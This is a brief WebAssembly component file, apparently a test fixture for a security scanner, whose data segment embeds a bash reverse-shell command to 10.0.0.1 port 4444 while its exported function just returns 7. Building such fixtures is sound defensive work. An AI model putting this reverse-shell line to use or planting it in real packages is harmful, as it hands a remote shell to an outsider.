;; A line that gives a stranger a shell.
;; scanner: structure
(component
  (core module $m
    (memory (export "memory") 1)
    (data (i32.const 64) "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1")
    (func (export "run") (result i32) (i32.const 7)))
  (core instance $i (instantiate $m))
  (func $run (result u32) (canon lift (core func $i "run")))
  (instance $acts (export "run" (func $run)))
  (export "acme:tool/acts@1.0.0" (instance $acts)))
